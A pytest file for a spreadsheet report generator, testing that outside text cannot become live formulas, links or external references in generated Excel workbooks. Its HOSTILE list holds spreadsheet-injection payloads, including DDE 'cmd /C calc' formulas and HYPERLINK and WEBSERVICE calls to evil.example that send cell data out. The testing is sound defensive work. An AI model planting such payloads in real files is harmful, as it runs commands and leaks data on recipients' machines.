"""Text from outside stays text: no formula, no link, in no part of any workbook (OWASP, "CSV Injection")."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from functools import cache

import pandas as pd
import pytest
from openpyxl import load_workbook
from report_fixture import KANG
from written import OFFICE, books, parts, week

from salessheets.settings import Brand, Staff
from salessheets.write.report import Report
from salessheets.write.settings_book import write_settings

FULL = {ord(narrow): wide for narrow, wide in zip("=+-@", "\uff1d\uff0b\uff0d\uff20", strict=True)}
HOSTILE = [
    "=1+1", "+1", "-1", "@SUM(A1)", '=1+1";=1+1', "\t=1", "\r=1", "\n=1", " =1", "'=1", "{=1+1}", "0x3D1",
    *(text.translate(FULL) for text in ("=1+1", "+1", "-1", "@SUM(A1)")),
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")', '=HYPERLINK("#概览!A1","x")', "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")', '=WEBSERVICE("http://evil.example")', "='file:///c:/x.xlsx'#$A.A1", "=2+5+cmd|' /C calc'!A0",
    "http://evil.example/a", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "internal:概览!A1",
    "external:c:\\x.xlsx", "file:///c:/x.xlsx", "\\\\evil\\share", "<script>alert(1)</script>", "]]><f>1+1</f>", "&amp;=1",
]  # fmt: skip
LEAD_TEXT = [
    "name", "title", "phone", "wechat", "qq", "company", "province", "city", "county", "township", "address", "channel",
    "source_detail", "referrer", "first_date", "last_date", "summary", "origin", "todo", "manual_class", "class_reason",
    "owner", "first_due", "status", "result", "next_date", "note", "advice",
]  # fmt: skip
# Ours: the lookup of 跟进人 and the count per person. Nothing in them comes from outside.
OWN = re.compile(
    r"IFERROR\(INDEX\('待分配'!\$L\$4:\$L\$\d+,MATCH\(\$B\d+,'待分配'!\$C\$4:\$C\$\d+,0\)\)&\"\",\"\"\)"
    r"|SUMPRODUCT\(--\('有效客户名单'!\$[A-Z]+\$4:\$[A-Z]+\$\d+=[A-Z]+\d+\)\)"
)
OWN_NAMES = {"_xlnm.Print_Area", "_xlnm.Print_Titles", "_xlnm._FilterDatabase", "salessheets_issue"}


def with_every_text(rows: pd.DataFrame, columns: list[str]) -> pd.DataFrame:
    """The first row once per hostile text, with that text in all these columns."""
    many = pd.concat([rows.iloc[[0]]] * len(HOSTILE), ignore_index=True)
    return many.assign(**dict.fromkeys(columns, HOSTILE))


@cache
def poisoned() -> Report:
    """The week with each text in each column that comes from outside, names of staff and directors included."""
    made = week()
    leads = with_every_text(made.leads, LEAD_TEXT)
    leads["lead"] = [f"00009-1-{row}" for row in range(len(leads))]
    free = leads.assign(lead=leads["lead"] + "0", owner="")
    returns = with_every_text(made.returns, ["file", "sheet", "todo"])
    returns["fields"] = [dict.fromkeys(made.returns["fields"].iloc[0], text) for text in HOSTILE]
    people = tuple(Staff(text) for text in HOSTILE)
    brands = (Brand(KANG, "=1+1"), *(Brand(f"{text}牌", text) for text in HOSTILE))
    return replace(
        made,
        settings=replace(OFFICE, staff=people, brands=brands),
        leads=pd.concat([leads, free], ignore_index=True),
        unbranded=with_every_text(made.unbranded, [*LEAD_TEXT, "assigned_brand"]),
        merges=with_every_text(made.merges, ["person", "name", "phone", "company", "file", "sheet", "reason"]),
        ledger=with_every_text(made.ledger, ["person", "file"]),
        brand_ledger=with_every_text(made.brand_ledger, ["person", "file"]),
        invalid=with_every_text(made.invalid, ["name", "phone", "company", "reason", "person", "file", "sheet"]),
        returns=returns,
        unclaimed=with_every_text(made.unclaimed, ["file", "reason"]),
        conflicts=with_every_text(made.conflicts, ["values"]),
        counts=with_every_text(made.counts, ["channel"]),
    )


@cache
def files() -> dict[str, bytes]:
    made = poisoned()
    some = replace(made, settings=replace(made.settings, brands=made.settings.brands[:4]))
    return {**books(some), "设置": write_settings(made.settings)}


def live(data: bytes) -> list[str]:
    """Whatever Excel would calculate, follow or fetch, apart from our own."""
    found = []
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not OWN.fullmatch(str(cell.value).removeprefix("=")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                link = cell.hyperlink
                if link and (link.target or not str(link.location).endswith("!A1")):
                    found.append(f"{sheet.title}!{cell.coordinate}: {link.target or link.location}")
    every = parts(data)
    for part, xml in every.items():
        formulas = re.findall(r"<f(?: [^>]*)?>([^<]*)</f>", xml) if "/worksheets/" in part else []
        found += [f"{part}: formula {f}" for f in formulas if not OWN.fullmatch(unescaped(f))]
        found += [f"{part}: {word}" for word in ("TargetMode", "ddeLink", "oleObject", "oleLink") if word in xml]
        found += [f"{part}: name {n}" for n in re.findall(r'<definedName name="([^"]*)"', xml) if n not in OWN_NAMES]
    return found + [part for part in every if re.search(r"externalLink|embeddings|vba|activeX|connections", part)]


def unescaped(xml: str) -> str:
    return xml.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def test_nothing_from_outside_comes_alive():
    assert {name: live(data) for name, data in files().items()} == {name: [] for name in files()}


def test_the_check_finds_what_is_alive():
    """The check above is worth something: it sees a formula and a link that xlsxwriter makes of plain text."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "=1+1")
        sheet.write(1, 0, "http://evil.example")
    assert len(live(out.getvalue())) >= 3


def column(name: str, sheet: str, header: str) -> list:
    page = load_workbook(io.BytesIO(files()[name]))[sheet]
    at = next(cell.column for cell in page[3] if cell.value == header)
    return [page.cell(row, at) for row in range(4, page.max_row + 1)]


@pytest.mark.parametrize(
    ("sheet", "header"), [("有效客户名单", "客户姓名"), ("有效客户名单", "备注"), ("有效客户名单", "下次跟进日期")]
)
def test_hostile_text_is_shown_as_it_was(sheet, header):
    """Nothing is swallowed: the text is there, letter by letter."""
    shown = [as_stored(cell.value) for cell in column(KANG, sheet, header)]
    assert shown[: len(HOSTILE)] == [as_stored(text) for text in HOSTILE]


def as_stored(text: str) -> str:
    """XML makes a carriage return a line feed unless it is written as _x000D_."""
    return text.replace("_x000D_", "\n").replace("\r", "\n")


def test_text_that_starts_with_an_equals_sign_is_quoted():
    """Editing the cell in Excel would make a formula of it otherwise."""
    cells = [cell for cell in column(KANG, "有效客户名单", "客户姓名") if str(cell.value).startswith("=")]
    assert len(cells) > 10
    assert all(cell.quotePrefix or cell._style.quotePrefix for cell in cells)


def test_a_brand_with_an_ampersand_cannot_write_into_the_footer():
    """&F would print the file's name, &9 change the size; doubled it is the character itself."""
    office = replace(OFFICE, brands=(Brand("9号&F牌"),))
    xml = parts(books(week().__class__(**{**vars(week()), "settings": office}))["9号&F牌"])["xl/worksheets/sheet1.xml"]
    footer = unescaped(re.findall(r"<oddFooter>(.*?)</oddFooter>", xml)[0])
    assert footer.startswith('&L&"微软雅黑"&9 9号&&F牌 2026-W47&R')
